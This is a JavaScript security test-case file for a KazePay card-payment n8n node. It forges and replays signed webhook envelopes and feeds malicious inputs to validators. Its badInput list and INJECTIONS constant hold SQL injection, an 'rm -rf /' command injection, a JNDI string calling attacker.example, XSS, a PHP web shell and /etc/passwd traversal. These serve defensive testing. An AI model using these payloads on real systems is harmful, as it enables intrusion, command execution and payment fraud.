'use strict';
// KazePay physical cards: cases for the reliability and security suite (test/security/suite.test.js).
// Events arrive in the signed and encrypted envelope (docs/kazepay.md): genuine ones are sealed by the
// sandbox's own, independent envelope code with the platform key; forgeries change one character of
// encrypt / keyEnc / sign, use a wrong key pair or sysId, leave parts out, or are not envelopes at all.
const crypto = require('crypto');
const fs = require('fs');
const path = require('path');
const kazepay = require('../../../sandbox/providers/kazepay');
const { FRONT, HANDHELD, BACK, kycParameters, seedCard, seedUser } = require('../../kazepay/fixtures');

const FIXTURES = path.join(__dirname, '..', '..', 'kazepay', 'fixtures');
const CARD_ID = '3377'; // the first card a fresh sandbox assigns (seedCard)

let impostor;
/** A key pair that is not KazePay's (made once, only when a forgery needs it). */
function impostorKeys() {
	if (!impostor) impostor = crypto.generateKeyPairSync('rsa', { modulusLength: 2048 });
	return impostor;
}

let sequence = 0;
const requestNo = () => `${new Date().toISOString().replace(/\D/g, '').slice(0, 14)}${String(++sequence).padStart(8, '0')}`;

/** An envelope sealed the way KazePay seals a webhook (platform private key signs, merchant public key receives). */
function sealed(sandbox, event, { signingKey, recipientKey, plaintext } = {}) {
	const state = sandbox.state('kazepay');
	const text = plaintext ?? JSON.stringify(event);
	const parts = kazepay.seal(state.algorithms, signingKey ?? state.platformPrivate, recipientKey ?? state.merchantPublic, text);
	return {
		head: { apiCode: 'webhookNotify', sysId: state.sysId, requestNo: requestNo(), version: '1.0', sign: parts.sign, keyEnc: parts.keyEnc },
		body: { encrypt: parts.encrypt },
	};
}

/** A card event worth forging: a large recharge. */
const recharge = (id, amount = '1000000.00') => ({ eventType: 'CARD_RECHARGE', eventTime: '2026-11-22 05:00:00', cardID: CARD_ID, transactionId: `LM-forged-${id}`, amount, currency: 'USD', status: 'SUCCESS' });

/** One character of the text changed at `at` (negative: from the end) into another of the same alphabet. */
function changeOne(text, at) {
	const index = at < 0 ? text.length + at : at;
	const alphabet = /^[0-9a-f]+$/.test(text) ? '0123456789abcdef' : 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
	const current = text[index];
	const swap = alphabet[(alphabet.indexOf(current) + 7) % alphabet.length];
	return text.slice(0, index) + swap + text.slice(index + 1);
}

/** A genuine envelope with one part changed. */
function tampered(part, at) {
	return (sandbox) => {
		const envelope = sealed(sandbox, recharge(`${part}${at}`));
		if (part === 'encrypt') envelope.body.encrypt = changeOne(envelope.body.encrypt, at);
		else envelope.head[part] = changeOne(envelope.head[part], at);
		return { payload: envelope };
	};
}

/** A genuine envelope with its head or body edited. */
function edited(edit) {
	return (sandbox) => {
		const envelope = sealed(sandbox, recharge(`edited-${++sequence}`));
		edit(envelope, sandbox);
		return { payload: envelope };
	};
}

const base64 = (buffer) => buffer.toString('base64');
const middle = (text) => text.slice(Math.floor(text.length / 2) - 24, Math.floor(text.length / 2) + 24);

/** KYC submission parameters, images as Base64 text (the suite's items have no binary data). */
const kyc = (overrides = {}) => {
	const { frontBinary: _front, handheldBinary: _handheld, ...fields } = kycParameters({ email: 'kyc@kazepay.io' });
	return { ...fields, imageSource: 'base64', frontBase64: base64(FRONT), handheldBase64: base64(HANDHELD), ...overrides };
};
const card = (operation, overrides = {}) => ({ resource: 'card', operation, cardId: CARD_ID, ...overrides });
const transactions = (overrides = {}) => ({ resource: 'transaction', operation: 'getMany', cardId: CARD_ID, returnAll: true, ...overrides });

const INJECTIONS = ["' OR '1'='1", '"; DROP TABLE cards; --', '${jndi:ldap://attacker.example/a}', '<script>alert(1)</script>', '{{constructor.constructor("return process")()}}'];

module.exports = {
	provider: 'kazepay',
	credentials: (sandbox) => ({ kazePayApi: sandbox.credentials().kazepay }),
	node: 'kazePay',

	triggers: [
		{
			name: 'KazePay Trigger',
			type: 'kazePayTrigger',
			parameters: {},
			// n8n's activation: the trigger registers its URL with the sandbox (setWebhookUrl, read back)
			setup: async (sandbox, started) => {
				const result = await started.activate();
				if (result[0] !== 'created' || sandbox.state('kazepay').webhookUrl !== started.url()) throw new Error(`KazePay Trigger did not register: ${result}`);
			},
			valid: (n, sandbox) => {
				const event = { eventType: 'CARD_TRANSACTION', eventTime: '2026-11-22 05:00:00', cardID: CARD_ID, transactionId: `sec-txn-${n}`, transType: 'Expenditure', transStatus: 'Success', amount: '4.00', currency: 'USD', merchantName: 'COFFEE', sendTime: '2026-11-22 05:00:01' };
				return { payload: sealed(sandbox, event), event };
			},
			// the same event again with unsigned head fields changed, or re-sealed like KazePay's retries:
			// acknowledged, but never a second run
			replays: (valid, sandbox) => {
				const copy = () => JSON.parse(JSON.stringify(valid.payload));
				const variant = (edit) => {
					const envelope = copy();
					edit(envelope);
					return { payload: envelope };
				};
				return [
					variant((e) => (e.head.apiCode = 'cardRecharge')),
					variant((e) => (e.head.apiCode = 'webhookNotify2')),
					variant((e) => (e.head.requestNo = requestNo())),
					variant((e) => delete e.head.sysId),
					variant((e) => (e.head.version = '2.0')),
					variant((e) => (e.head.code = 'SUCCESS')),
					variant((e) => (e.head.sign = e.head.sign.toUpperCase())),
					{ payload: sealed(sandbox, valid.event) },
					{ payload: sealed(sandbox, { ...valid.event, sendTime: '2026-11-22 05:16:01' }) },
					{ payload: sealed(sandbox, undefined, { plaintext: JSON.stringify(valid.event, null, 2) }) },
				];
			},
			forged: [
				{ name: 'encrypt: one character changed (middle)', build: tampered('encrypt', 100) },
				{ name: 'encrypt: one character changed (GCM tag)', build: tampered('encrypt', -8) },
				{ name: 'encrypt: one character changed (IV)', build: tampered('encrypt', 0) },
				{ name: 'keyEnc: one character changed (middle)', build: tampered('keyEnc', 256) },
				{ name: 'keyEnc: last character changed', build: tampered('keyEnc', -1) },
				{ name: 'sign: one character changed (middle)', build: tampered('sign', 256) },
				{ name: 'sign: last character changed', build: tampered('sign', -1) },
				{ name: 'sealed with a wrong key pair (impostor signs)', build: (sandbox) => ({ payload: sealed(sandbox, recharge('impostor'), { signingKey: impostorKeys().privateKey }) }) },
				{ name: 'sealed for another merchant (keyEnc to a foreign public key, genuine signature)', build: (sandbox) => ({ payload: sealed(sandbox, recharge('foreign'), { recipientKey: impostorKeys().publicKey }) }) },
				{ name: 'wrong key pair for both signing and encryption', build: (sandbox) => ({ payload: sealed(sandbox, recharge('both'), { signingKey: impostorKeys().privateKey, recipientKey: impostorKeys().publicKey }) }) },
				{
					name: 'genuine signature of another event (amount raised)',
					build: (sandbox) => {
						const small = sealed(sandbox, recharge('splice', '1.00'));
						const large = sealed(sandbox, recharge('splice', '1000000.00'));
						return { payload: { head: { ...large.head, sign: small.head.sign }, body: large.body } };
					},
				},
				{
					name: 'genuine keyEnc and sign, encrypt of another event',
					build: (sandbox) => {
						const one = sealed(sandbox, recharge('mix-1'));
						const two = sealed(sandbox, recharge('mix-2'));
						return { payload: { head: one.head, body: two.body } };
					},
				},
				{ name: 'wrong sysId', build: edited((e) => (e.head.sysId = '202402271432298822669999')) },
				{ name: 'sysId of another type', build: edited((e) => (e.head.sysId = { $ne: '' })) },
				{ name: 'missing sign', build: edited((e) => delete e.head.sign) },
				{ name: 'empty sign', build: edited((e) => (e.head.sign = '')) },
				{ name: 'sign as an array', build: edited((e) => (e.head.sign = [e.head.sign])) },
				{ name: 'sign signed by the impostor over the same plaintext', build: (sandbox) => {
					const event = recharge('resign');
					const envelope = sealed(sandbox, event);
					envelope.head.sign = crypto.createSign('sha256').update(JSON.stringify(event)).sign(impostorKeys().privateKey, 'hex');
					return { payload: envelope };
				} },
				{ name: 'missing keyEnc', build: edited((e) => delete e.head.keyEnc) },
				{ name: 'missing body.encrypt', build: edited((e) => delete e.body.encrypt) },
				{ name: 'no body', build: edited((e) => delete e.body) },
				{ name: 'no head', build: edited((e) => delete e.head) },
				{ name: 'head as a string', build: edited((e) => (e.head = JSON.stringify(e.head))) },
				{ name: 'plain unencrypted JSON event (no envelope)', payload: recharge('plain') },
				// cross-message replay: KazePay's API answers are sealed exactly like events (platform signature,
				// merchant key); a captured answer re-sent to the trigger URL must not pass as an event
				{ name: 'genuine cardRecharge API answer re-sent as an event', build: (sandbox) => ({ payload: sealed(sandbox, { cardID: CARD_ID, currency: 'USD', transactionId: 'LM2312151602393234580', transactionStatus: 'PENDING', sendAmount: '5000.00' }) }) },
				{ name: 'genuine cardRecharge API answer, head saying webhookNotify', build: (sandbox) => {
					const envelope = sealed(sandbox, { cardID: CARD_ID, currency: 'USD', transactionId: 'LM-api-2', transactionStatus: 'SUCCESS', sendAmount: '100.00' });
					envelope.head.apiCode = 'webhookNotify';
					return { payload: envelope };
				} },
				{ name: 'genuine queryCard API answer (card data) re-sent as an event', build: (sandbox) => ({ payload: sealed(sandbox, { cardID: CARD_ID, cardNo: '4937240000000036', cardCvv: '195', expiryDate: '2707', currency: 'USD', userBankCardStatus: 'ACTIVE' }) }) },
				{ name: 'genuine closeCard API answer re-sent as an event', build: (sandbox) => ({ payload: sealed(sandbox, { cardID: CARD_ID, status: 'CLOSE_PROCESSING', refundAmt: '65.22', currency: 'USD', txnId: '2412111444075320115' }) }) },
				{ name: 'genuine queryTransactions API answer (an array) re-sent as an event', build: (sandbox) => ({ payload: sealed(sandbox, [{ cardID: CARD_ID, transactionId: 'T-api', transType: 'Expenditure', transStatus: 'Success' }]) }) },
				{ name: 'genuine API answer with an event type only in the unsigned head', build: (sandbox) => {
					const envelope = sealed(sandbox, { encrypt: 'SUCCESS', status: 'PASSED' });
					envelope.head.eventType = 'KYC_STATUS';
					return { payload: envelope };
				} },
				{ name: 'envelope whose body is the plain event', build: edited((e) => (e.body = recharge('plain-body'))) },
				{ name: 'encrypt holding the plain JSON (Base64), genuine keyEnc and sign of another event', build: edited((e) => (e.body.encrypt = Buffer.from(JSON.stringify(recharge('plain-b64'))).toString('base64'))) },
				{
					name: 'form-encoded genuine parts',
					format: 'form',
					build: (sandbox) => {
						const e = sealed(sandbox, recharge('form'));
						return { format: 'form', payload: { ...e.head, encrypt: e.body.encrypt } };
					},
				},
				{ name: 'JSON array of an envelope', build: (sandbox) => ({ payload: [sealed(sandbox, recharge('array'))] }) },
				{ name: 'JSON null', raw: 'null' },
				{ name: 'malformed JSON', raw: '{"head":{"apiCode":"webhookNotify","sign":"ab' },
				{ name: 'not JSON at all', raw: '<xml><eventType>CARD_RECHARGE</eventType></xml>', contentType: 'application/xml' },
				{ name: 'empty body', raw: '' },
				{ name: 'oversized body (2 MiB) around a tampered envelope', build: (sandbox) => {
					const e = tampered('sign', 10)(sandbox).payload;
					return { payload: { ...e, padding: 'x'.repeat(2 * 1024 * 1024) } };
				} },
				{ name: 'oversized encrypt (2 MiB of noise) with a genuine keyEnc', build: edited((e) => (e.body.encrypt = crypto.randomBytes(1536 * 1024).toString('base64'))) },
			],
		},
	],

	moneyOps: [
		{
			name: 'card recharge',
			setup: (sandbox) => void seedCard(sandbox, { balance: 0 }),
			// cardRecharge has no reference field of its own: the Idempotency Key is the per-item reference
			// (the ledger matrix gives each item its own key, all recharging the same card)
			parameters: card('recharge', { currency: 'USD', amount: '25.00', idempotencyKey: 'sec-topup-1' }),
			reference: 'idempotencyKey',
			path: '/gateway',
			movements: (sandbox) => sandbox.state('kazepay').transactions.filter((t) => t.transType === 'Recharge').length,
		},
		{
			// the Idempotency Key defaults to the card ID; items cannot be distinct per item (one seeded card), so
			// only the single-item scenarios of the ledger matrix run
			name: 'card close (balance refunded)',
			setup: (sandbox) => void seedCard(sandbox, { balance: 1500 }),
			parameters: card('close'),
			path: '/gateway',
			movements: (sandbox) => sandbox.state('kazepay').transactions.filter((t) => t.transType === 'Refund').length,
		},
		{
			name: 'card activation (single-use code)',
			// ledger: false because activation moves no money: it is a createOnce call (KAZEPAY_CALLS), sent once
			// without an Idempotency Key; the single-use activation code is KazePay's own guard against a repeat,
			// and a repeat after a lost answer is reconciled by Card → Get. The fault matrix still runs.
			ledger: false,
			setup: (sandbox) => void seedCard(sandbox, { status: 'UNACTIVATED' }),
			parameters: card('activate', { activationCode: '70795601' }), // the first stock card's code
			path: '/gateway',
			movements: (sandbox) => Object.values(sandbox.state('kazepay').cards).filter((c) => c.activationUsed).length,
		},
		{
			name: 'card assign (createOnce)',
			// ledger: false because assigning moves no money (createOnce, no Idempotency Key); KazePay's
			// CARD_ALREADY_ASSIGNED is its guard, reconciled with Options → Card ID to Reconcile With
			ledger: false,
			setup: (sandbox) => void seedUser(sandbox),
			parameters: { resource: 'card', operation: 'assign', email: 'kyc@kazepay.io', cardNumber: '4937240000000010', autoActive: true },
			path: '/gateway',
			movements: (sandbox) => Object.keys(sandbox.state('kazepay').cards).length,
		},
	],

	reads: [
		{ name: 'webhook URL', parameters: { resource: 'webhook', operation: 'get' }, path: '/gateway' },
		{ name: 'card balance', setup: (sandbox) => void seedCard(sandbox, { balance: 1234 }), parameters: card('getBalance', { currency: 'USD' }), path: '/gateway' },
		{ name: 'card details', setup: (sandbox) => void seedCard(sandbox), parameters: card('get'), path: '/gateway' },
		{ name: 'transactions', setup: (sandbox) => void seedCard(sandbox), parameters: transactions(), path: '/gateway' },
	],

	badInput: [
		// KYC: every documented constraint (English only, 140-character address, ISO 3166, yyyy-MM-dd, images)
		['Email', kyc({ email: 'kyc@kazepay.io\r\nBcc: attacker@example.com' })],
		['Email', kyc({ email: "' OR '1'='1" })],
		['Mobile Number', kyc({ mobileNumber: '15659874544; rm -rf /' })],
		['Mobile Number', kyc({ mobileNumber: '1'.repeat(21) })],
		['Mobile Prefix', kyc({ mobilePrefix: '+60 OR 1=1' })],
		['Mobile Country', kyc({ mobilePrefixCountry: 'XX' })],
		['Mobile Country', kyc({ mobilePrefixCountry: 'MYS' })],
		['First Name', kyc({ firstName: 'Jürgen' })],
		['First Name', kyc({ firstName: '王' })],
		['First Name', kyc({ firstName: 'Trump\r\nX-Admin: 1' })],
		['First Name', kyc({ firstName: 'A'.repeat(65) })],
		...INJECTIONS.map((value) => ['Last Name', kyc({ lastName: value })]),
		['Date of Birth', kyc({ dateOfBirth: '25/04/1958' })],
		['Date of Birth', kyc({ dateOfBirth: '1958-02-30' })],
		['Date of Birth', kyc({ dateOfBirth: '2999-01-01' })],
		['Date of Birth', kyc({ dateOfBirth: "1958-04-25' OR '1'='1" })],
		['Address Line', kyc({ addressLine: 'A'.repeat(141) })],
		['Address Line', kyc({ addressLine: 'Straße 5, Berlin' })],
		['Address Line', kyc({ addressLine: 'Nashville TN 37011\r\nBcc: attacker@example.com' })],
		['Address Line', kyc({ addressLine: '<img src=x onerror=alert(1)>' })],
		['Address Line', kyc({ addressLine: '${jndi:ldap://attacker.example/a}' })],
		['City', kyc({ city: 'Zürich' })],
		['City', kyc({ city: 'Paris\u0000' })],
		['State', kyc({ state: '{{7*7}}' })],
		['State', kyc({ state: '={{ "" }}' })],
		['Post Code', kyc({ postCode: "C2A2EX'; --" })],
		['Post Code', kyc({ postCode: '1'.repeat(17) })],
		['Country', kyc({ countryCode: 'FRA' })],
		['Country', kyc({ countryCode: 'ZZ' })],
		['Country', kyc({ countryCode: 'F\nR' })],
		['Identification Type', kyc({ identificationType: 'DRIVING_LICENCE' })],
		['Identification Number', kyc({ identificationNumber: 'A563F186\r\nX: 1' })],
		['Identification Number', kyc({ identificationNumber: 'A'.repeat(65) })],
		['Identification Expiry Date', kyc({ identificationExpiryDate: '2099-1-1' })],
		['Identification Expiry Date', kyc({ identificationExpiryDate: '2099-13-01' })],
		['Identification Expiry Date', kyc({ identificationExpiryDate: '2001-01-01' })],
		['Front Image (Base64)', kyc({ frontBase64: 'data:image/jpeg;base64,@@@' })],
		['Front Image (Base64)', kyc({ frontBase64: base64(Buffer.from('<?php system($_GET["c"]); ?>')) })],
		['Handheld Image (Base64)', kyc({ handheldBase64: base64(Buffer.from('%PDF-1.4 not an image')) })],
		['Image Source', kyc({ imageSource: 'url' })],
		['Front Image (Binary Property)', kyc({ imageSource: 'binary', frontBinary: 'passport', handheldBinary: 'selfie' })],
		['Front Image (Binary Property)', kyc({ imageSource: 'binary', frontBinary: '../../etc/passwd' })],
		['Back Image (Base64)', kyc({ identificationType: 'ID_CARD' })],
		['Back Image (Base64)', kyc({ identificationType: 'ID_CARD', backBase64: base64(Buffer.from('GIF89a')) })],
		// KYC status, cards, transactions, webhook
		['Cardholder Email', { resource: 'kyc', operation: 'getStatus', email: 'kyc@kazepay.io\r\nBcc: x@example.com' }],
		['Cardholder Email', { resource: 'card', operation: 'assign', email: '${jndi:ldap://x/a}', cardNumber: '4937240000000010' }],
		['Card Number', { resource: 'card', operation: 'assign', email: 'kyc@kazepay.io', cardNumber: '4937 2400 0000 0011' }], // spaces are allowed; the check digit is wrong
		['Card Number', { resource: 'card', operation: 'assign', email: 'kyc@kazepay.io', cardNumber: "4937240000000010' OR '1'='1" }],
		['Card Number', { resource: 'card', operation: 'assign', email: 'kyc@kazepay.io', cardNumber: '4'.repeat(20) }],
		['Card ID', card('get', { cardId: "3377' OR '1'='1" })],
		['Card ID', card('getBalance', { cardId: '../../etc/passwd' })],
		['Card ID', card('setStatus', { cardId: '3377\r\nX: 1', status: 'INACTIVE' })],
		['Card ID', card('close', { cardId: 'x'.repeat(65) })],
		['Card ID', card('recharge', { cardId: '${jndi:ldap://x/a}', currency: 'USD', amount: '1.00', idempotencyKey: 'sec-bad-1' })],
		['Activation Code', card('activate', { activationCode: "70795601' OR '1'='1" })],
		['Activation Code', card('activate', { activationCode: '7'.repeat(33) })],
		['PIN', card('setPin', { pin: '37542' })],
		['PIN', card('setPin', { pin: '3754261' })],
		['PIN', card('setPin', { pin: '37542a' })],
		['PIN', card('setPin', { pin: ' 375426' })],
		['PIN', card('setPin', { pin: '１２３４５６' })],
		['PIN', card('setPin', { pin: "1' OR 1" })],
		['Currency', card('getBalance', { currency: 'US' })],
		['Currency', card('recharge', { currency: 'U$D', amount: '1.00', idempotencyKey: 'sec-bad-1' })],
		['Amount', card('recharge', { currency: 'USD', amount: '0', idempotencyKey: 'sec-bad-1' })],
		['Amount', card('recharge', { currency: 'USD', amount: '-5', idempotencyKey: 'sec-bad-1' })],
		['Amount', card('recharge', { currency: 'USD', amount: '10.005', idempotencyKey: 'sec-bad-1' })],
		['Amount', card('recharge', { currency: 'USD', amount: '1e3', idempotencyKey: 'sec-bad-1' })],
		['Amount', card('recharge', { currency: 'USD', amount: 'NaN', idempotencyKey: 'sec-bad-1' })],
		['Amount', card('recharge', { currency: 'USD', amount: 'Infinity', idempotencyKey: 'sec-bad-1' })],
		['Amount', card('recharge', { currency: 'USD', amount: "1' OR '1'='1", idempotencyKey: 'sec-bad-1' })],
		['Amount', card('recharge', { currency: 'USD', amount: '9'.repeat(400), idempotencyKey: 'sec-bad-1' })],
		['Status', card('setStatus', { status: 'FROZEN' })],
		['Status', card('setStatus', { status: "ACTIVE' --" })],
		['Page Size', transactions({ options: { pageSize: 0 } })],
		['Page Size', transactions({ options: { pageSize: 101 } })],
		['Page Size', transactions({ options: { pageSize: 2.5 } })],
		['Start Page', transactions({ options: { pageNum: 0 } })],
		['Start Page', transactions({ options: { pageNum: 11 } })],
		['Limit', transactions({ returnAll: false, limit: 0 })],
		['Limit', transactions({ returnAll: false, limit: -5 })],
		['From', transactions({ filters: { transactionStartTime: '08/02/2024 13:17' } })],
		['From', transactions({ filters: { transactionStartTime: "2024-02-08 13:17:02' OR '1'='1" } })],
		['To', transactions({ filters: { transactionEndTime: '2024-02-08 25:17:02' } })],
		['To', transactions({ filters: { transactionStartTime: '2024-02-08 13:17:02', transactionEndTime: '2024-02-01 00:00:00' } })],
		['Transaction ID', transactions({ filters: { transactionId: 'T'.repeat(65) } })],
		['Transaction ID', transactions({ filters: { transactionId: "LM1' OR '1'='1" } })],
		['Transaction ID', transactions({ filters: { transactionId: 'LM1\r\nX: 1' } })],
		['URL', { resource: 'webhook', operation: 'set', url: 'ftp://example.com/hook' }],
		['URL', { resource: 'webhook', operation: 'set', url: 'javascript:alert(1)' }],
		['URL', { resource: 'webhook', operation: 'set', url: 'file:///etc/passwd' }],
		['URL', { resource: 'webhook', operation: 'set', url: 'not a url' }],
		['URL', { resource: 'webhook', operation: 'set', url: 'https://n8n.example.com/webhook/x\r\nX-Injected: 1' }],
		['URL', { resource: 'webhook', operation: 'set', url: 'https://n8n.example.com/webhook/<script>' }],
	],

	/** Values that must never be seen in outputs, errors or logs. */
	secrets: () => {
		const pemBody = (name) => fs.readFileSync(path.join(FIXTURES, name), 'utf8').split('\n').filter((line) => line && !line.startsWith('-----'));
		const merchant = pemBody('merchant-private.pem');
		const platform = pemBody('platform-private.pem');
		return [
			// the merchant private key (the credential's secret) and the platform's private key: distinctive line slices
			merchant[8],
			merchant[16].slice(0, 48),
			platform[8],
			// full card numbers of the sandbox's stock cards that no test reveals on purpose
			// (…0028, the second stock card, and 4937240800070604 are revealed by the "Reveal Full Card Data" tests)
			'4937240000000010',
			'4937240000000036',
			// activation codes of the stock cards (single-use), the test PIN
			'70795601',
			'70795602',
			'70795603',
			'375426',
			// KYC document images (their random middle, not the common JPEG header)
			middle(base64(FRONT)),
			middle(base64(HANDHELD)),
			middle(base64(BACK)),
		];
	},
};
